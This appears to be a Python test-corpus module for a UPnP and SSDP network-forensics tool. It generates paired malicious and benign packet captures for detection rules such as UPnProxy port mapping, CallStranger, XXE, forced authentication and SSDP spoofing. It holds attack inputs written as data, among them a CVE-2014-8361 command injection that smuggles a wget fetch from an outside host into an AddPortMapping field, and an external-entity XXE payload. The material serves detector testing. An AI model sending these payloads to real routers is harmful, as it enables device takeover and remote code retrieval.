"""Other ways in which the subjects of rules show: in other protocols, encodings and outcomes."""

from __future__ import annotations

from tests.capture.conversation import response as served
from tests.corpus.forgeries import declared
from tests.corpus.mappings import add
from tests.corpus.recipe import Expected, Pair, pair
from tests.corpus.saying import (
    CLIENT,
    OTHER,
    OUTSIDE,
    ROGUE,
    announce,
    fetch,
    leave,
)
from tests.corpus.wire import ROUTER, Wire
from tests.forensics.asking import NONCE, third_party
from tests.forensics.rules.mapping_pieces import mapping
from tests.forensics.rules.traffic import (
    OK,
    answer,
    get,
    soap,
    subscribe,
    subscribed,
)
from upnpscapy.protocol.pcp import build_pcp_map_request, build_pcp_map_response

__all__ = ["PAIRS"]

RELAY = "203.0.113.9"


@pair("upnproxy", "NewInternalClient: of the Internet, who asks", variant="m-post")
def by_m_post(wire: Wire, bad: bool) -> list[Expected]:
    wire.arp(CLIENT, ROUTER)
    values = mapping(NewInternalClient=RELAY if bad else CLIENT)
    request = soap("AddPortMapping", values, method="M-POST")
    man = b'MAN: "http://schemas.xmlsoap.org/soap/envelope/"; ns=01\r\n01-SOAPACTION:'
    talk = wire.http(request.replace(b"SOAPACTION:", man), answer("AddPortMapping"))
    return [Expected("CRITICAL", "accepted", RELAY, talk.granted)]


@pair("upnproxy", "what is in a gateway's table: a mapping to the Internet, to a host", "vlan",
      "table")  # fmt: skip
def in_a_table(wire: Wire, bad: bool) -> list[Expected]:
    wire.arp(CLIENT, OTHER, ROUTER)
    name = "GetGenericPortMappingEntry"
    entry = answer(name, mapping(NewInternalClient=RELAY if bad else OTHER))
    talk = wire.http(soap(name, [("NewPortMappingIndex", "0")]), entry)
    return [Expected("CRITICAL", "observed", RELAY, talk.both)]


@pair("upnproxy", "NewInternalClient: of the Internet, who asks; both are refused",
      variant="refused")  # fmt: skip
def refused(wire: Wire, bad: bool) -> list[Expected]:
    wire.arp(CLIENT, ROUTER)
    asked = add(wire, 606, NewInternalClient=RELAY if bad else CLIENT)
    return [Expected("HIGH", "attempted", RELAY, asked.both)]


@pair("third-party-mapping", "the address in PCP's THIRD_PARTY: another host's, one's own",
      variant="pcp")  # fmt: skip
def by_pcp(wire: Wire, bad: bool) -> list[Expected]:
    wire.arp(CLIENT, OTHER, ROUTER)
    option = (third_party(OTHER if bad else CLIENT),)
    port = {"nonce": NONCE, "lifetime_seconds": 600, "options": option}
    asked = build_pcp_map_request(CLIENT, 6, 6881, **port)  # type: ignore[arg-type]
    told = build_pcp_map_response(6, 6881, 6881, "203.0.113.1", **port)  # type: ignore[arg-type]
    frames = [
        wire.udp(asked, CLIENT, ROUTER, sport=40000, dport=5351),
        wire.udp(told, ROUTER, CLIENT, sport=5351, dport=40000),
    ]
    return [Expected("MEDIUM", "accepted", OTHER, frames)]


@pair("ssdp-wan-exposed", "the address of who asks for the external address: outside, inside",
      variant="control")  # fmt: skip
def control_from_outside(wire: Wire, bad: bool) -> list[Expected]:
    wire.arp(CLIENT, ROUTER)
    name = "GetStatusInfo"
    talk = wire.http(soap(name), answer(name), client=OUTSIDE if bad else CLIENT)
    return [
        Expected("CRITICAL", "accepted", ROUTER, talk.both),
        Expected("CRITICAL", "accepted", ROUTER, talk.both, "igd-control-from-wan"),
    ]


@pair("ssdp-notify-flood", "the new devices in a minute: 60, 12", variant="devices")
def new_devices(wire: Wire, bad: bool) -> list[Expected]:
    frames = []
    for number in range(60 if bad else 12):
        frames.append(announce(wire, ROGUE, udn=f"uuid:{number:08}-0000-4000-8000-000000000000"))
        wire.wait(0.8)
    return [Expected("MEDIUM", "observed", ROGUE, frames)]


@pair("ssdp-notify-flood", "the same announcement in 10 s: 30 times, 12 times", variant="same")
def the_same(wire: Wire, bad: bool) -> list[Expected]:
    frames = []
    for _ in range(30 if bad else 12):
        frames.append(announce(wire, ROGUE))
        wire.wait(0.3)
    return [Expected("MEDIUM", "observed", ROGUE, frames)]


@pair("location-mismatch", "the host of LOCATION: another of the subnet, the sender (IPv6)",
      variant="subnet")  # fmt: skip
def subnet(wire: Wire, bad: bool) -> list[Expected]:
    host = "fd77::30" if bad else "fd77::66"
    frame = announce(wire, "fd77::66", location=f"http://[{host}]:5000/root.xml")
    return [Expected("MEDIUM", "attempted", "fd77::66", [frame])]


@pair("xxe", "an external entity, none; UTF-16 in chunks", variant="utf16")
def wide(wire: Wire, bad: bool) -> list[Expected]:
    announce(wire, ROGUE, location=f"http://{ROGUE}:49152/root.xml")
    doctype = f'<!DOCTYPE root [<!ENTITY x SYSTEM "http://{OUTSIDE}/x.dtd">]>' if bad else ""
    body = declared(doctype, "&x;" if bad else "Lamp").decode()
    raw = b"\xff\xfe" + body.encode("utf-16-le")
    chunks = b"".join(b"%x\r\n%s\r\n" % (len(raw[at : at + 300]), raw[at : at + 300])
                      for at in range(0, len(raw), 300)) + b"0\r\n\r\n"  # fmt: skip
    head = b"HTTP/1.1 200 OK\r\nContent-Type: text/xml\r\nTransfer-Encoding: chunked\r\n\r\n"
    request = get("/root.xml", host=f"{ROGUE}:49152")
    got = wire.http(request, head + chunks, server=ROGUE, port=49152)
    return [Expected("HIGH", "attempted", ROGUE, got.answer)]


@pair("forced-auth", "a path in a page: to a share of the device, to a picture",
      variant="page")  # fmt: skip
def share_in_a_page(wire: Wire, bad: bool) -> list[Expected]:
    announce(wire, ROGUE)
    fetch(wire, server=ROGUE)
    image = f"file://///{ROGUE}/share/a.png" if bad else "/share/a.png"
    page = f"<html><img src='{image}'></html>".encode()
    shown = wire.http(get("/present.html", host="lamp.local"), served(page), server=ROGUE)
    return [Expected("HIGH", "attempted", ROGUE, shown.answer)]


@pair("callstranger", "the address that DNS has for the name in CALLBACK: outside, inside",
      variant="name")  # fmt: skip
def named(wire: Wire, bad: bool) -> list[Expected]:
    told = wire.dns("cb.example", OUTSIDE if bad else CLIENT, CLIENT)
    talk = wire.http(subscribe("<http://cb.example/cb>"), subscribed())
    return [Expected("HIGH", "accepted", ROUTER, [told, *talk.both])]


@pair("callstranger", "the host of CALLBACK: of the Internet, the subscriber; the first is refused",
      "cooked", "refused")  # fmt: skip
def callback_refused(wire: Wire, bad: bool) -> list[Expected]:
    no = b"HTTP/1.1 412 Precondition Failed\r\nContent-Length: 0\r\n\r\n"
    host = OUTSIDE if bad else CLIENT
    talk = wire.http(subscribe(f"<http://{host}:81/cb>"), no if bad else subscribed())
    return [Expected("HIGH", "attempted", ROUTER, talk.both)]


@pair("drive-by-soap", "a preflight for SOAPACTION, for another field", variant="preflight")
def preflight(wire: Wire, bad: bool) -> list[Expected]:
    wire.http(soap("GetStatusInfo"), answer("GetStatusInfo"), client=OTHER)
    field = "soapaction" if bad else "x-other"
    more = f"Origin: http://evil.example\r\nAccess-Control-Request-Headers: {field}\r\n"
    talk = wire.http(get("/ctl", more, method="OPTIONS"), OK)
    return [Expected("MEDIUM", "accepted", ROUTER, talk.both)]


@pair("cve-2014-8361", "whether the device connects to the host in the command",
      variant="effect")  # fmt: skip
def fetched(wire: Wire, bad: bool) -> list[Expected]:
    wire.arp(CLIENT, ROUTER)
    client = f"`wget http://{OUTSIDE}/upnpscapy-test`" if bad else CLIENT
    values = mapping(NewInternalClient=client)
    request = soap("AddPortMapping", values, target="/picsdesc.xml")
    talk = wire.http(request, answer("AddPortMapping"), port=52869)
    wire.wait(1)
    effect = wire.connect(ROUTER, OUTSIDE, 80)
    return [Expected("CRITICAL", "effect", ROUTER, [*talk.both, *effect])]


@pair("ssdp-byebye-spoof", "who says byebye for a gateway: another host, the gateway",
      variant="gateway")  # fmt: skip
def gateway_gone(wire: Wire, bad: bool) -> list[Expected]:
    kind = "urn:schemas-upnp-org:device:InternetGatewayDevice:1"
    wire.arp(ROUTER, ROGUE)
    first = announce(wire, ROUTER, kind)
    wire.wait(5)
    gone = leave(wire, ROGUE if bad else ROUTER, kind)
    return [Expected("HIGH", "attempted", ROUTER, [first, gone])]


PAIRS: tuple[Pair, ...] = tuple(one for one in globals().values() if isinstance(one, Pair))
